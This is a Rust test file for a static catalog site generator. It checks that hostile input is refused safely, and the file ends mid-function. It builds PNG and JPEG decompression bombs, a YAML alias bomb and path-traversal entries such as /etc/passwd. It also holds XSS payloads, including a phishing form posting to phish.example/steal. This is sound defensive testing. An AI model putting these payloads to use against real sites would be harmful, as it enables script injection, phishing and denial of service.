//! Hostile and broken input: every case gives a clear `path:line:col` diagnostic and a
//! normal exit (1 for errors, 0 for warnings), never a panic (101), a hang or a
//! runaway allocation. Each run has a time limit, and the etalase process's own peak
//! memory is read from the kernel (`wait4`).

use crate::support::{CatalogTest, photos};
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// What one run did, with the etalase process's peak resident memory.
#[derive(Debug)]
struct Limited {
    code: i32,
    stderr: String,
    peak_rss_mb: u64,
    secs: f64,
}

impl Limited {
    /// Asserts the run ended by itself with `code` and names `text` in its diagnostics.
    #[track_caller]
    fn expect(&self, code: i32, text: &str) -> &Self {
        assert_ne!(self.code, 101, "panicked:\n{}", self.stderr);
        assert!(!self.stderr.contains("panicked"), "{}", self.stderr);
        assert_eq!(self.code, code, "exit code; stderr:\n{}", self.stderr);
        assert!(
            self.stderr.contains(text),
            "stderr lacks {text:?}:\n{}",
            self.stderr
        );
        self
    }
}

/// Runs `etalase args…` in the test folder, killing it after `limit`; returns its exit
/// status (-1 when killed), stderr and peak RSS.
///
/// A small Python process starts it and reads its rusage: a process started straight
/// from this test binary would report the binary's own peak memory as its own (Linux
/// keeps the larger high-water mark across the vfork and exec), and the other tests
/// running at once make that high.
fn run_limited(t: &CatalogTest, args: &[&str], limit: Duration) -> Limited {
    const WATCH: &str = r#"
import os, sys, time
limit, report, argv = float(sys.argv[1]), sys.argv[2], sys.argv[3:]
pid = os.posix_spawn(argv[0], argv, os.environ)
start, killed = time.monotonic(), False
while True:
    done, status, usage = os.wait4(pid, os.WNOHANG)
    if done == pid:
        break
    if time.monotonic() - start > limit and not killed:
        os.kill(pid, 9)
        killed = True
    time.sleep(0.01)
code = os.waitstatus_to_exitcode(status)
with open(report, "w") as f:
    f.write(f"{code if code >= 0 else -1} {usage.ru_maxrss} {int(killed)}")
"#;
    let err_path = t.path("stderr.txt");
    let report = t.path("rusage.txt");
    let err = std::fs::File::create(&err_path).unwrap();
    let start = Instant::now();
    let status = Command::new("python3")
        .args(["-c", WATCH, &limit.as_secs_f64().to_string()])
        .arg(&report)
        .arg(env!("CARGO_BIN_EXE_etalase"))
        .args(args)
        .current_dir(t.path(""))
        .env_remove("ETALASE_CACHE")
        .stdout(Stdio::null())
        .stderr(err)
        .status()
        .expect("python3 runs the hostile-input builds");
    let stderr = std::fs::read_to_string(&err_path).unwrap_or_default();
    assert!(status.success(), "the watcher failed: {status}\n{stderr}");
    let report = std::fs::read_to_string(&report).unwrap();
    let fields: Vec<i64> = report.split(' ').map(|f| f.parse().unwrap()).collect();
    assert_eq!(
        fields[2], 0,
        "still running after {limit:?}: a hang\n{stderr}"
    );
    Limited {
        code: fields[0] as i32,
        stderr,
        peak_rss_mb: u64::try_from(fields[1]).unwrap_or(0) / 1024,
        secs: start.elapsed().as_secs_f64(),
    }
}

const PRODUCT: &str = "content/desa-contoh/keripik-pare";
const LIMIT: Duration = Duration::from_secs(60);

/// The minimal catalog with `file` (bytes) dropped in its one product folder.
fn with_photo(name: &str, bytes: &[u8]) -> CatalogTest {
    let t = CatalogTest::new("minimal");
    t.write(&format!("{PRODUCT}/{name}"), bytes);
    t
}

fn good_jpeg() -> Vec<u8> {
    photos::jpeg(&photos::halves(640, 480))
}

fn good_png() -> Vec<u8> {
    photos::alpha_png(320, 240)
}

/// A PNG chunk with its CRC.
fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = (data.len() as u32).to_be_bytes().to_vec();
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let mut crc = flate2::Crc::new();
    crc.update(kind);
    crc.update(data);
    out.extend_from_slice(&crc.sum().to_be_bytes());
    out
}

/// A valid little PNG file that declares `w`×`h` RGB pixels, with a real zlib stream of
/// zero rows: a decompression bomb of a few kilobytes.
fn png_bomb(w: u32, h: u32) -> Vec<u8> {
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&h.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(&vec![0u8; 4 << 20]).unwrap();
    let idat = z.finish().unwrap();
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    out.extend(png_chunk(b"IHDR", &ihdr));
    out.extend(png_chunk(b"IDAT", &idat));
    out.extend(png_chunk(b"IEND", &[]));
    out
}

/// A real JPEG whose frame header (SOF0) is rewritten to declare `w`×`h`.
fn jpeg_declaring(w: u16, h: u16) -> Vec<u8> {
    let mut bytes = good_jpeg();
    let sof = bytes
        .windows(2)
        .position(|p| p == [0xFF, 0xC0])
        .expect("baseline JPEG");
    bytes[sof + 5..sof + 7].copy_from_slice(&h.to_be_bytes());
    bytes[sof + 7..sof + 9].copy_from_slice(&w.to_be_bytes());
    bytes
}

// --- photos --------------------------------------------------------------------------

#[test]
fn empty_cut_off_and_corrupt_photos_are_errors_at_the_file() {
    let jpeg = good_jpeg();
    let png = good_png();
    let webp = photos::webp(400, 300);
    // A damaged Huffman table: class and id 0x5A do not exist.
    let mut corrupt_jpeg = jpeg.clone();
    let dht = corrupt_jpeg
        .windows(2)
        .position(|w| w == [0xFF, 0xC4])
        .unwrap();
    corrupt_jpeg[dht + 4] = 0x5A;
    let mut corrupt_png = png.clone();
    let idat = corrupt_png.windows(4).position(|w| w == b"IDAT").unwrap();
    for b in &mut corrupt_png[idat + 4..idat + 60] {
        *b ^= 0x5A;
    }
    let mut corrupt_webp = webp.clone();
    for b in &mut corrupt_webp[40..] {
        *b = b.wrapping_mul(7).wrapping_add(3);
    }
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("kosong.jpg", Vec::new(), "the file is empty"),
        ("potong.jpg", jpeg[..jpeg.len() / 2].to_vec(), "cut off"),
        ("potong.png", png[..png.len() / 2].to_vec(), "cut off"),
        ("potong.webp", webp[..webp.len() / 2].to_vec(), "cut off"),
        ("rusak.jpg", corrupt_jpeg, "rusak.jpg:1:1: error:"),
        ("rusak.png", corrupt_png, "rusak.png:1:1: error:"),
        ("rusak.webp", corrupt_webp, "rusak.webp:1:1: error:"),
        (
            "teks.jpg",
            b"Ini bukan foto, hanya teks dengan nama .jpg\n".to_vec(),
            "teks.jpg:1:1: error:",
        ),
        (
            "iphone.jpg",
            b"\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\0".to_vec(),
            "HEIC",
        ),
    ];
    for (name, bytes, text) in cases {
        eprintln!("case {name}");
        let t = with_photo(name, &bytes);
        let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
        run.expect(1, text)
            .expect(1, &format!("keripik-pare/{name}:1:1: error:"));
        assert!(!t.path("public").exists(), "{name}: nothing published");
    }
    // Scrambled picture data, markers and all: a decoder may show it garbled (as
    // browsers do) or refuse it, but never crash.
    let mut scrambled = jpeg.clone();
    let n = scrambled.len();
    for (i, b) in scrambled[n / 3..n - 2].iter_mut().enumerate() {
        *b = (i * 131 % 256) as u8;
    }
    let t = with_photo("acak.jpg", &scrambled);
    let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
    assert!(
        run.code == 0 || run.stderr.contains("acak.jpg:1:1: error:"),
        "{run:?}"
    );
    run.expect(run.code, "");
}

#[test]
fn decompression_bombs_are_refused_before_any_large_allocation() {
    // 50,000 × 50,000 RGB would be 7.5 GB decoded; 65,535² JPEG 12.9 GB.
    let png = png_bomb(50_000, 50_000);
    assert!(png.len() < 64 * 1024, "{} bytes", png.len());
    let cases = [
        (
            "bom.png",
            png,
            "the photo is 2500 megapixels; the limit is 50",
        ),
        (
            "bom.jpg",
            jpeg_declaring(65_535, 65_535),
            "the photo is 4295 megapixels; the limit is 50",
        ),
    ];
    for (name, bytes, size) in cases {
        let t = with_photo(name, &bytes);
        let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
        run.expect(1, &format!("keripik-pare/{name}:1:1: error:"))
            .expect(1, size);
        assert!(
            run.peak_rss_mb < 200,
            "{name}: peak RSS {} MB",
            run.peak_rss_mb
        );
    }
}

#[test]
fn animated_gif_is_refused_and_animated_webp_shows_its_first_frame() {
    // An animated GIF (two frames): GIF is not a photo format of the catalog.
    let mut gif = Vec::new();
    {
        let mut enc = image::codecs::gif::GifEncoder::new(&mut gif);
        enc.set_repeat(image::codecs::gif::Repeat::Infinite)
            .unwrap();
        for shade in [20u8, 200] {
            let frame = image::RgbaImage::from_pixel(64, 48, image::Rgba([shade, 0, 0, 255]));
            enc.encode_frame(image::Frame::new(frame)).unwrap();
        }
    }
    let t = with_photo("gerak.jpg", &gif);
    run_limited(&t, &["build", "--lang", "en"], LIMIT)
        .expect(1, "keripik-pare/gerak.jpg:1:1: error:")
        .expect(1, "GIF");

    // An animated WebP, as WhatsApp saves stickers: its first frame is shown.
    let (w, h) = (400u32, 300u32);
    let config = webp::WebPConfig::new().unwrap();
    let red = photos::halves(w, h);
    let mut enc = webp::AnimEncoder::new(w, h, &config);
    enc.add_frame(webp::AnimFrame::from_rgb(red.as_raw(), w, h, 0));
    enc.add_frame(webp::AnimFrame::from_rgb(red.as_raw(), w, h, 100));
    let anim = enc.encode().to_vec();
    let t = with_photo("stiker.webp", &anim);
    let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
    run.expect(0, "(1 processed, 0 from cache)");
    assert!(!run.stderr.contains("stiker.webp"), "{}", run.stderr);
    let still = files_under(&t.path("public"))
        .into_iter()
        .find(|(p, _)| p.contains("stiker.") && p.ends_with(".webp"))
        .expect("a web image of the sticker");
    assert!(
        !still.1.windows(4).any(|w| w == b"ANMF"),
        "published as a still picture"
    );
    t.check_site("public");
}

// --- YAML and text -------------------------------------------------------------------

#[test]
fn a_yaml_alias_bomb_is_refused_quickly() {
    let mut yaml = String::from("name: Keripik Pare\ncategory: makanan\nprice: 15000\n");
    yaml.push_str("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..12 {
        let p = i - 1;
        yaml.push_str(&format!(
            "a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    let t = CatalogTest::new("minimal");
    t.write(&format!("{PRODUCT}/product.yaml"), &yaml);
    let run = run_limited(&t, &["build", "--lang", "en"], Duration::from_secs(20));
    run.expect(1, "keripik-pare/product.yaml:");
    assert!(run.peak_rss_mb < 200, "peak RSS {} MB", run.peak_rss_mb);
}

#[test]
fn deeply_nested_yaml_is_refused_without_overflowing_the_stack() {
    for doc in [
        format!(
            "name: Keripik Pare\ncategory: makanan\nprice: 15000\ntags: {}{}\n",
            "[".repeat(100_000),
            "]".repeat(100_000)
        ),
        format!(
            "name: Keripik Pare\ncategory: makanan\nprice: 15000\norder: {}x{}\n",
            "{a: ".repeat(50_000),
            "}".repeat(50_000)
        ),
    ] {
        let t = CatalogTest::new("minimal");
        t.write(&format!("{PRODUCT}/product.yaml"), &doc);
        run_limited(&t, &["check", "--lang", "en"], Duration::from_secs(20))
            .expect(1, "keripik-pare/product.yaml:4:");
    }
}

#[test]
fn ten_megabyte_files_are_refused_with_the_size_named() {
    let t = CatalogTest::new("minimal");
    let huge = "a".repeat(10 << 20);
    t.write(
        &format!("{PRODUCT}/product.yaml"),
        format!("name: \"{huge}\"\ncategory: makanan\nprice: 15000\n"),
    );
    t.write(
        "content/desa-contoh/index.md",
        format!("Cerita desa.\n\n{huge}\n"),
    );
    let run = run_limited(&t, &["check", "--lang", "en"], Duration::from_secs(30));
    run.expect(
        1,
        "keripik-pare/product.yaml:1:1: error: this file is too large",
    )
    .expect(1, "desa-contoh/index.md:1:1: error: this file is too large");
}

#[test]
fn invalid_utf8_and_latin1_files_are_read_with_a_warning_at_the_first_bad_byte() {
    let t = CatalogTest::new("minimal");
    // "Paré" in Latin-1 (é = 0xE9), as an old Windows editor saves it.
    t.write(
        &format!("{PRODUCT}/product.yaml"),
        b"name: Keripik Par\xe9\ncategory: makanan\nprice: 15000\n",
    );
    t.write(
        &format!("{PRODUCT}/index.md"),
        b"Renyah.\n\nBytes \xff\xfe\xc3 broken\n",
    );
    let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
    run.expect(
        0,
        "keripik-pare/product.yaml:1:18: warning: this file is not saved as UTF-8 text",
    )
    .expect(
        0,
        "keripik-pare/index.md:3:7: warning: this file is not saved as UTF-8 text",
    );
    let page = t.read("public/desa-contoh/keripik-pare/index.html");
    assert!(page.contains("Keripik Paré"), "Latin-1 read as Latin-1");
    t.check_site("public");
}

// --- paths and names -----------------------------------------------------------------

#[test]
fn photo_paths_leaving_the_product_folder_are_refused() {
    let t = CatalogTest::new("minimal");
    t.write("secret.jpg", good_jpeg());
    t.write(
        &format!("{PRODUCT}/product.yaml"),
        "name: Keripik Pare\ncategory: makanan\nprice: 15000\nphotos:\n  - ../../../secret.jpg\n  - /etc/passwd\n  - C:\\Users\\foto.jpg\n",
    );
    let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
    run.expect(1, "keripik-pare/product.yaml:5:5: error:")
        .expect(1, "keripik-pare/product.yaml:6:5: error:")
        .expect(1, "keripik-pare/product.yaml:7:5: error:");
    assert!(!t.path("public").exists());
}

#[cfg(unix)]
#[test]
fn links_out_of_the_catalog_and_loops_of_links_never_escape_or_hang() {
    use std::os::unix::fs::symlink;
    let t = CatalogTest::new("minimal");
    // A village folder that is a link to a folder outside the catalog.
    std::fs::create_dir_all(t.path("private/rumah")).unwrap();
    t.write("private/rumah/village.yaml", "name: Rumah\n");
    symlink(t.path("private/rumah"), t.path("content/rumah")).unwrap();
    // Two file links pointing at each other, and one at itself.
    symlink(
        t.path(&format!("{PRODUCT}/b.jpg")),
        t.path(&format!("{PRODUCT}/a.jpg")),
    )
    .unwrap();
    symlink(
        t.path(&format!("{PRODUCT}/a.jpg")),
        t.path(&format!("{PRODUCT}/b.jpg")),
    )
    .unwrap();
    symlink(
        t.path(&format!("{PRODUCT}/c.jpg")),
        t.path(&format!("{PRODUCT}/c.jpg")),
    )
    .unwrap();
    let run = run_limited(&t, &["build", "--lang", "en"], Duration::from_secs(20));
    run.expect(
        1,
        "content/rumah:1:1: error: this link leads outside the catalog folder",
    )
    .expect(1, "keripik-pare/a.jpg:1:1: error:")
    .expect(1, "keripik-pare/c.jpg:1:1: error:");
}

#[test]
fn names_windows_cannot_hold_are_warnings_naming_the_rename() {
    let t = CatalogTest::new("minimal");
    for name in ["foto:depan.jpg", "apa?.jpg", "aux.jpg", "foto. "] {
        t.write(&format!("{PRODUCT}/{name}"), good_jpeg());
    }
    t.write("content/CON/village.yaml", "name: Con\n");
    let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
    for name in ["foto:depan.jpg", "apa?.jpg", "aux.jpg", "foto. "] {
        run.expect(
            0,
            &format!("keripik-pare/{name}:1:1: warning: this name cannot be used on Windows"),
        );
    }
    run.expect(
        0,
        "content/CON:1:1: warning: this name cannot be used on Windows",
    )
    .expect(0, "help: rename it");
    // Indonesian by default.
    run_limited(&t, &["check"], LIMIT).expect(0, "nama ini tidak bisa dipakai di Windows");
}

#[test]
fn ten_thousand_products_in_one_village_build() {
    let t = CatalogTest::new("minimal");
    for i in 0..10_000 {
        t.write(
            &format!("content/desa-contoh/produk-{i:05}/product.yaml"),
            format!("name: Produk {i}\ncategory: makanan\nprice: {}\n", 1000 + i),
        );
    }
    let run = run_limited(&t, &["build", "--lang", "en"], Duration::from_secs(300));
    run.expect(0, "10001 products");
    eprintln!(
        "10,000 products: {:.1} s, peak RSS {} MB",
        run.secs, run.peak_rss_mb
    );
    assert!(
        t.path("public/desa-contoh/produk-09999/index.html")
            .is_file()
    );
}

// --- safe output ---------------------------------------------------------------------

/// Every file under `dir` (relative path, bytes).
fn files_under(dir: &Path) -> Vec<(String, Vec<u8>)> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .map(Result::unwrap)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let rel = e
                .path()
                .strip_prefix(dir)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            (rel, std::fs::read(e.path()).unwrap())
        })
        .collect()
}

fn html_pages(dir: &Path) -> Vec<(String, String)> {
    files_under(dir)
        .into_iter()
        .filter(|(p, _)| p.ends_with(".html"))
        .map(|(p, b)| (p, String::from_utf8(b).unwrap()))
        .collect()
}

const HOSTILE_MD: &str = r#"# Cara pesan

Keripik **renyah** dan *gurih*, [lihat toko](https://www.tokopedia.com/kub/keripik).

- satu
- dua

<script>alert('xss-script')</script>
<img src=x onerror="alert('xss-onerror')">
<b onclick="alert('xss-onclick')" style="color:red">tebal</b>
<a href="javascript:alert('xss-js')">klik</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
[md-js](javascript:alert('xss-mdjs'))
<iframe src="https://evil.example/frame"></iframe>
<form action="https://phish.example/steal"><input name="pin"></form>
<svg onload="alert('xss-svg')"><circle r="1"/></svg>
<style>body{display:none}</style>
<object data="https://evil.example/x.swf"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
"#;

#[test]
fn contributor_text_cannot_run_script_and_keeps_its_formatting() {
    let t = CatalogTest::new("minimal");
    t.write(
        &format!("{PRODUCT}/product.yaml"),
        "name: \"Keripik <script>alert('xss-name')</script> \\\"Pare\\\" & 'Co'\"\ncategory: makanan\nprice: 15000\ntags: [\"<img src=x onerror=alert('xss-tag')>\"]\n",
    );
    t.write(&format!("{PRODUCT}/index.md"), HOSTILE_MD);
    t.write(
        "content/desa-contoh/village.yaml",
        "name: \"Desa <b onmouseover=alert('xss-village')>Contoh</b>\"\n",
    );
    let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
    run.expect(0, "built");
    let page = t.read("public/desa-contoh/keripik-pare/index.html");
    // Formatting kept.
    for kept in [
        "<h2>Cara pesan</h2>",
        "<strong>renyah</strong>",
        "<em>gurih</em>",
        "<li>satu</li>",
        "<b>tebal</b>",
        r#"<a href="https://www.tokopedia.com/kub/keripik" rel="noopener noreferrer">lihat toko</a>"#,
    ] {
        assert!(page.contains(kept), "lacks {kept:?}");
    }
    // The name, escaped in text and in attributes (quotes included, so it cannot close
    // the attribute it stands in).
    let escaped = "Keripik &lt;script&gt;alert(&#39;xss-name&#39;)&lt;/script&gt; &quot;Pare&quot; &amp; &#39;Co&#39;";
    assert!(
        page.contains(&format!("<h1>{escaped}")) || page.contains(&format!(">{escaped}<")),
        "name escaped in text"
    );
    assert!(
        page.contains(&format!("property=\"og:title\" content=\"{escaped}")),
        "name escaped in an attribute"
    );
    for (path, html) in html_pages(&t.path("public")) {
        for (tag, attrs) in etalase::testing::fuzz::tags(&html) {
            // (An inline <svg> of the theme would be fine; the contributor's is caught by its
            // handler and marker below.)
            // The 404 page's inline stylesheet and script are the theme's, allowed by
            // their hashes, and the printed pages' stylesheet is inline (see
            // every_page_has_a_strict_content_security_policy_…).
            let theme_inline = path == "404.html" || path.starts_with("cetak/");
            let forbidden = ["iframe", "object", "embed", "style"];
            assert!(
                !forbidden.contains(&tag.as_str()) || (theme_inline && tag == "style"),
                "{path}: <{tag}>"
            );
            if tag == "meta" {
                assert!(
                    !attrs.iter().any(|(_, v)| v.contains("refresh")),
                    "{path}: <meta refresh>"
                );
            }
            if tag == "script" {
                // JSON-LD is data, not a script a browser runs.
                assert!(
                    attrs
                        .iter()
                        .any(|(n, v)| n == "src" || (n == "type" && v == "application/ld+json"))
                        || path == "404.html",
                    "{path}: inline script"
                );
            }
            if tag == "form" {
                assert!(
                    attrs
                        .iter()
                        .all(|(n, v)| n != "action" || !v.contains("//")),
                    "{path}: form to another site"
                );
            }
            for (name, value) in attrs {
                assert!(!name.starts_with("on"), "{path}: <{tag} {name}=>");
                let v = value.trim().to_ascii_lowercase();
                assert!(
                    !v.starts_with("javascript:") && !v.starts_with("data:text"),
                    "{path}: <{tag} {name}={value}>"
                );
            }
        }
        for bad in ["evil.example", "phish.example", "xss-script", "xss-svg"] {
            assert!(!html.contains(bad), "{path} holds {bad:?}");
        }
    }
}

/// Every `<script>` of every page loads one of the site's own files (or is a JSON data
/// block with no `<` inside): nothing inline runs, so the policy below can forbid it.
/// Two kinds of page differ: `404.html`, shown at any address, inlines its stylesheet
/// (and, without a base_url, a script finding the site root), each allowed by its hash
/// alone; the printed catalog (`cetak/`) runs no script at all and has its one
/// stylesheet inline.
#[test]
fn every_page_has_a_strict_content_security_policy_and_no_inline_script_or_style() {
    let t = with_photo("depan.jpg", &good_jpeg());
    run_limited(&t, &["build"], LIMIT).expect(0, "");
    let strict = "default-src 'self'; img-src 'self' data:; script-src 'self'; style-src 'self'; connect-src 'self'; manifest-src 'self'; worker-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'";
    let paper = "default-src 'self'; img-src 'self' data:; script-src 'none'; style-src 'unsafe-inline'; object-src 'none'; base-uri 'none'; form-action 'none'";
    let pages = html_pages(&t.path("public"));
    assert!(pages.len() >= 6);
    assert!(pages.iter().any(|(p, _)| p == "404.html"));
    assert!(pages.iter().any(|(p, _)| p.starts_with("cetak/")));
    for (path, html) in &pages {
        let head = html.split("</head>").next().unwrap();
        let tag = "<meta http-equiv=\"Content-Security-Policy\" content=\"";
        let meta = head.find(tag).unwrap_or_else(|| panic!("{path}: no CSP"));
        let policy = &head[meta + tag.len()..];
        let policy = &policy[..policy.find('"').unwrap()];
        // Before any stylesheet or script, so it governs them all.
        let first_resource = head
            .find("<link")
            .into_iter()
            .chain(head.find("<script"))
            .chain(head.find("<style"))
            .min();
        assert!(
            first_resource.is_none_or(|r| meta < r),
            "{path}: CSP after a resource"
        );
        let inline = |element: &str| -> Vec<String> {
            html.match_indices(&format!("<{element}"))
                .filter_map(|(i, _)| {
                    let tag = &html[i..i + html[i..].find('>').unwrap()];
                    if tag.contains(" src=\"") || tag.contains("application/ld+json") {
                        return None;
                    }
                    let end = html[i..].find(&format!("</{element}>")).unwrap() + i;
                    Some(html[i + tag.len() + 1..end].to_string())
                })
                .collect()
        };
        if path.starts_with("cetak/") {
            assert_eq!(policy, paper, "{path}");
            assert!(!html.contains("<script"), "{path}: a script on paper");
        } else if path == "404.html" {
            let hashed = |text: &str| {
                use base64::Engine as _;
                use sha2::Digest as _;
                let digest = sha2::Sha256::digest(text.as_bytes());
                let b64 = base64::engine::general_purpose::STANDARD.encode(digest);
                format!("'sha256-{b64}'")
            };
            let styles = inline("style");
            assert_eq!(styles.len(), 1, "{path}: its stylesheet inline");
            for text in styles.iter().chain(&inline("script")) {
                assert!(
                    policy.contains(&hashed(text)),
                    "{path}: not hashed: {text:.80}"
                );
            }
            let without_hashes: Vec<String> = policy
                .split(';')
                .map(|d| {
                    let words: Vec<&str> = d
                        .split_whitespace()
                        .filter(|w| !w.starts_with("'sha256-"))
                        .collect();
                    words.join(" ")
                })
                .collect();
            assert_eq!(without_hashes.join("; "), strict, "{path}");
        } else {
            assert_eq!(policy, strict, "{path}");
            assert_eq!(
                inline("script"),
                Vec::<String>::new(),
                "{path}: inline script"
            );
            assert!(!html.contains("<style"), "{path}: inline <style>");
        }
        for (i, _) in html.match_indices("<script") {
            let tag = &html[i..i + html[i..].find('>').unwrap()];
            let body_end = html[i..].find("</script>").unwrap() + i;
            let body = &html[i + tag.len() + 1..body_end];
            if tag.contains("type=\"application/ld+json\"") {
                assert!(!body.contains('<'), "{path}: `<` in JSON-LD: {body}");
            } else if let Some(src) = tag.split(" src=\"").nth(1) {
                let src = src.split('"').next().unwrap();
                assert!(!src.contains("//"), "{path}: script from elsewhere: {src}");
            }
        }
        assert!(
            !html.contains(" style=\""),
            "{path}: inline style attribute"
        );
        assert!(
            !html.contains(" on") || !has_event_handler(html),
            "{path}: inline handler"
        );
    }
}

fn has_event_handler(html: &str) -> bool {
    html.split('<').skip(1).any(|tag| {
        let tag = tag.split('>').next().unwrap_or("");
        tag.split_whitespace().skip(1).any(|attr| {
            attr.starts_with("on")
                && attr.contains('=')
                && attr[2..]
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_lowercase())
        })
    })
}

/// The sample catalog, built into `<tmp>/public` with its cache in `<tmp>/cache`.
fn sample_site() -> CatalogTest {
    let t = CatalogTest {
        dir: tempfile::tempdir().unwrap(),
    };
    let content = Path::new(env!("CARGO_MANIFEST_DIR")).join("content");
    let content = content.to_str().unwrap();
    run_limited(
        &t,
        &[
            "build",
            "--content",
            content,
            "--out",
            "public",
            "--cache",
            "cache",
        ],
        Duration::from_secs(180),
    )
    .expect(0, "");
    t
}

#[test]
fn every_link_to_another_site_opens_without_a_handle_on_ours() {
    let t = sample_site();
    let mut external = 0;
    for (path, html) in html_pages(&t.path("public")) {
        for (i, _) in html.match_indices("<a ") {
            let tag = &html[i..i + html[i..].find('>').unwrap()];
            let Some(href) = tag
                .split(" href=\"")
                .nth(1)
                .map(|h| h.split('"').next().unwrap())
            else {
                continue;
            };
            let own = href.starts_with("https://contoh.github.io/katalog/");
            if !own && (href.starts_with("http") || href.starts_with("//")) {
                external += 1;
                assert!(tag.contains("rel=\"noopener noreferrer\""), "{path}: {tag}");
            }
        }
    }
    assert!(external >= 20, "only {external} external links checked");
}

// --- privacy -------------------------------------------------------------------------

/// A JPEG segment: marker, length, payload.
fn segment(marker: u8, payload: &[u8]) -> Vec<u8> {
    let mut out = vec![0xFF, marker];
    out.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A phone JPEG with EXIF (orientation, GPS, camera make), XMP and IPTC.
fn jpeg_with_every_kind_of_metadata() -> Vec<u8> {
    let phone = photos::phone_jpeg(1000, 800);
    let mut xmp = b"http://ns.adobe.com/xap/1.0/\0".to_vec();
    xmp.extend_from_slice(
        b"<x:xmpmeta><rdf:Description exif:GPSLatitude=\"8,10S\" RAHASIA-XMP/></x:xmpmeta>",
    );
    let mut iptc = b"Photoshop 3.0\08BIM\x04\x04\0\0\0\0\0\x10".to_vec();
    iptc.extend_from_slice(b"\x1c\x02\x5a\0\x0cRAHASIA-IPTC");
    let mut out = phone[..2].to_vec();
    out.extend(segment(0xE1, &xmp));
    out.extend(segment(0xED, &iptc));
    out.extend_from_slice(&phone[2..]);
    out
}

fn png_with_metadata() -> Vec<u8> {
    let png = photos::alpha_png(700, 500);
    // Insert tEXt and eXIf chunks right after IHDR (8 + 25 bytes).
    let mut out = png[..33].to_vec();
    out.extend(png_chunk(b"tEXt", b"Comment\0RAHASIA-PNG-TEXT"));
    out.extend(png_chunk(
        b"eXIf",
        b"MM\0\x2a\0\0\0\x08\0\0RAHASIA-PNG-EXIF",
    ));
    out.extend_from_slice(&png[33..]);
    out
}

fn webp_with_metadata() -> Vec<u8> {
    // An extended WebP (VP8X) carrying EXIF and XMP chunks around the image.
    let simple = photos::webp(800, 600);
    let image_chunk = &simple[12..];
    let mut body = b"WEBP".to_vec();
    let mut vp8x = vec![0x08 | 0x04, 0, 0, 0]; // EXIF and XMP flags
    vp8x.extend_from_slice(&(800u32 - 1).to_le_bytes()[..3]);
    vp8x.extend_from_slice(&(600u32 - 1).to_le_bytes()[..3]);
    body.extend_from_slice(b"VP8X");
    body.extend_from_slice(&(vp8x.len() as u32).to_le_bytes());
    body.extend_from_slice(&vp8x);
    body.extend_from_slice(image_chunk);
    for (kind, data) in [
        (
            b"EXIF",
            b"MM\0\x2a\0\0\0\x08\0\0RAHASIA-WEBP-EXIF!".to_vec(),
        ),
        (b"XMP ", b"<x:xmpmeta>RAHASIA-WEBP-XMP</x:xmpmeta>".to_vec()),
    ] {
        body.extend_from_slice(kind);
        body.extend_from_slice(&(data.len() as u32).to_le_bytes());
        body.extend_from_slice(&data);
        if data.len() % 2 == 1 {
            body.push(0);
        }
    }
    let mut out = b"RIFF".to_vec();
    out.extend_from_slice(&(body.len() as u32).to_le_bytes());
    out.extend(body);
    out
}

/// Metadata a published image must not hold: JPEG APP1 (EXIF, XMP) and APP13 (IPTC);
/// PNG text and EXIF chunks; WebP EXIF and XMP chunks.
fn metadata_in(name: &str, bytes: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    if bytes.starts_with(&[0xFF, 0xD8]) {
        let mut pos = 2;
        while pos + 4 <= bytes.len() && bytes[pos] == 0xFF {
            let marker = bytes[pos + 1];
            if marker == 0xDA {
                break;
            }
            if matches!(marker, 0xE1 | 0xED) {
                found.push(format!("{name}: JPEG APP{}", marker - 0xE0));
            }
            let len = u16::from_be_bytes([bytes[pos + 2], bytes[pos + 3]]) as usize;
            pos += 2 + len;
        }
    } else if bytes.starts_with(b"\x89PNG") {
        let mut pos = 8;
        while pos + 8 <= bytes.len() {
            let len = u32::from_be_bytes(bytes[pos..pos + 4].try_into().unwrap()) as usize;
            let kind = &bytes[pos + 4..pos + 8];
            if [&b"tEXt"[..], b"zTXt", b"iTXt", b"eXIf"].contains(&kind) {
                found.push(format!("{name}: PNG {}", String::from_utf8_lossy(kind)));
            }
            pos += 12 + len;
        }
    } else if bytes.starts_with(b"RIFF") {
        let mut pos = 12;
        while pos + 8 <= bytes.len() {
            let kind = &bytes[pos..pos + 4];
            let len = u32::from_le_bytes(bytes[pos + 4..pos + 8].try_into().unwrap()) as usize;
            if kind == b"EXIF" || kind == b"XMP " {
                found.push(format!("{name}: WebP {}", String::from_utf8_lossy(kind)));
            }
            pos += 8 + len + (len & 1);
        }
    }
    for secret in [
        &b"RAHASIA"[..],
        b"TestPhone",
        b"Exif\0\0",
        b"http://ns.adobe.com/xap",
    ] {
        if bytes.windows(secret.len()).any(|w| w == secret) {
            found.push(format!("{name}: {}", String::from_utf8_lossy(secret)));
        }
    }
    found
}

#[test]
fn no_published_file_holds_metadata_or_an_original_photo() {
